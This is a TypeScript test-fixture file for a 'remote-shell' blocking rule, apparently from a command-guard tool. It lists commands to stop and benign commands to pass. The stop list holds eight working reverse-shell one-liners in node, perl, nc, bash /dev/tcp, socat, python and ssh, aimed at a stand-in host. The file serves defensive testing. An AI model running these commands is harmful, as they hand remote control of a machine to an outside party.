import type { CasesById } from '../../cases/rule-cases.ts'

export const remoteShellCases: CasesById = {
  'remote-shell': {
    stop: [
      'node -e \'require("net").connect(4444,"10.0.0.1",function(){let s=require("child_process").spawn("sh");this.pipe(s.stdin)})\'',
      'perl -e \'use Socket;connect(S,sockaddr_in(4444,inet_aton("10.0.0.1")));exec("/bin/sh -i")\'',
      'rm -f /tmp/p; mknod /tmp/p p; sh </tmp/p | nc 10.0.0.1 9 >/tmp/p',
      'nc -e /bin/sh 10.0.0.1 4444',
      'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
      'socat exec:sh tcp:10.0.0.1:4444',
      'ssh -R 8022:localhost:22 x.test',
      "python3 -c \"import socket,os,pty;s=socket.socket();s.connect(('10.0.0.1',4444));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')\"",
    ],
    pass: [
      "node -e \"require('net').connect(5432,'localhost').on('connect',()=>process.exit(0))\"",
      'nc -zv localhost 5432',
      'ssh -L 5432:db:5432 host',
      'socat - tcp:localhost:80',
      'ssh host uptime',
    ],
  },
}
